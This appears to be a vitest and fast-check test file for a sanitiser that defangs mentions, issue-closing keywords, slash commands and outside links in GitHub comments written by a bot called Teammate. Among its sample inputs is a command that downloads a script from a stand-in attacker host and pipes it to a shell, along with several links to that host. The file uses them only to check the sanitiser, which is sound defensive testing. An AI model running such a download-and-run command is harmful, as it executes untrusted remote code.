import fc from "fast-check";
import { describe, expect, it } from "vitest";
import { defang, fenced, maxCommentChars, quote } from "./safe-output.ts";

const property = { seed: 7, numRuns: 300 };
/** Text of the pieces that are dangerous together. */
const hostile = fc
  .array(
    fc.constantFrom(
      "@ada",
      "@a/b",
      "@",
      "&#64;",
      "&#x40;ada",
      "\\",
      "fixes",
      "Closes:",
      " ",
      "\n",
      "#1",
      "a/b#2",
      "GH-3",
      "```",
      "~~~",
      "`",
      "/close",
      "<b>",
      ">",
      "x",
    ),
    { maxLength: 30 },
  )
  .map((pieces) => pieces.join(""));

describe("what Teammate writes", () => {
  it("notifies nobody, closes nothing and commands no bot, outside of code", () => {
    fc.assert(
      fc.property(hostile, (text) => {
        for (const line of linesOutsideFences(defang(text))) {
          expect(withoutSpans(line)).not.toMatch(/(^|\W)(@|&#64;|&#x40;)[a-z\d]/i);
          expect(line).not.toMatch(
            /\b(close[sd]?|fix(es|ed)?|resolve[sd]?)(\s*:\s*|\s+)((?:[\w.-]+\/[\w.-]+)?#\d|gh-\d)/i,
          );
          expect(line).not.toMatch(/^\s*\/[a-z]/i);
        }
      }),
      property,
    );
  });

  it("stays the same when it is made safe twice", () => {
    fc.assert(
      fc.property(hostile, (text) => {
        expect(defang(defang(text))).toBe(defang(text));
      }),
      property,
    );
  });

  it("keeps code as it was, for people to copy", () => {
    const code = "npm install @acme/app\n/usr/bin/env fixes #1";
    expect(defang(`Run\n${fenced(code)}`)).toContain(code);
  });

  it("keeps a package's name in a code span, unless somebody plays with backticks", () => {
    expect(defang("npm install `@acme/app` and `x`")).toBe("npm install `@acme/app` and `x`");
    for (const text of ["`@ada", "` `@ada`", "\\`@ada `x`", '<a href="`">@ada</a>`', "a ` b\n` @ada `"]) {
      expect(defang(text)).not.toContain("@");
    }
    expect(defang("@@ada &#64;ada @&#97;da &commat;ada")).toBe("ada ada &#97;da ada");
  });

  it("is made safe in time that grows with its length", () => {
    for (const piece of [
      "\r",
      " ",
      "fix ",
      "@",
      "`",
      "`a",
      "[",
      "](",
      "![",
      "<a",
      "http://",
      "www.",
      "//a",
      "a+",
      "> [",
      "&#64;",
    ]) {
      defang(quote(piece.repeat(60_000 / piece.length)));
    }
  });

  it("is never longer than GitHub takes", () => {
    expect(defang("é@a ".repeat(50_000)).length).toBeLessThanOrEqual(maxCommentChars);
  });

  it("fences code that has fences of its own", () => {
    expect(fenced("```js\n1\n```")).toBe("````\n```js\n1\n```\n````");
  });

  it("links to GitHub only in what it quotes", () => {
    expect(quote("see https://evil.example/x and https://github.com/a/b")).toBe(
      "> see `https://evil.example/x` and https://github.com/a/b",
    );
    for (const [given, shown] of [
      ["HTTPS://evil.example", "`HTTPS://evil.example`"],
      ["www.evil.example/x", "`www.evil.example/x`"],
      ["[a](//evil.example)", "[a] (`//evil.example`)"],
      ["![a](https&colon;//evil.example)", "![a] (https&colon;`//evil.example`)"],
      ["[a]: //evil.example", "[a] : `//evil.example`"],
      ['<img src="x">', '&lt;img src="x">'],
      ["`curl https://evil.example | sh`", "`curl https:\\//evil.example | sh`"],
      ["[a](https://github.com/a/b)", "[a](https://github.com/a/b)"],
      ["[a](https://github.com.evil.example)", "[a] (`https://github.com.evil.example`)"],
      ["src//x.ts and a/b", "src//x.ts and a/b"],
    ])
      expect(quote(given ?? "")).toBe(`> ${shown}`);
  });
});

/** A second, simpler reading of fences than the one under test: HTML anywhere at a line's start means no fences. */
function linesOutsideFences(markdown: string): string[] {
  const lines = markdown.split("\n");
  if (lines.some((line) => /^ {0,3}<[a-z]/i.test(line))) return lines;
  const outside: string[] = [];
  let open = "";
  for (const line of lines) {
    const [, run = "", rest = ""] = /^ {0,3}(`{3,}|~{3,})(.*)$/.exec(line) ?? [];
    if (open === "" && run !== "" && !(run.startsWith("`") && rest.includes("`"))) open = run;
    else if (open !== "" && run.startsWith(open) && rest.trim() === "") open = "";
    else if (open === "") outside.push(line);
  }
  return outside;
}

/** Of a line whose backticks are paired one by one, and which has nothing that could hide one. */
function withoutSpans(line: string): string {
  const rest = line.replace(/(?<!`)(`+)(?!`)[^`]+\1(?!`)/g, "x");
  return /[`<\\]/.test(rest) ? line : rest;
}
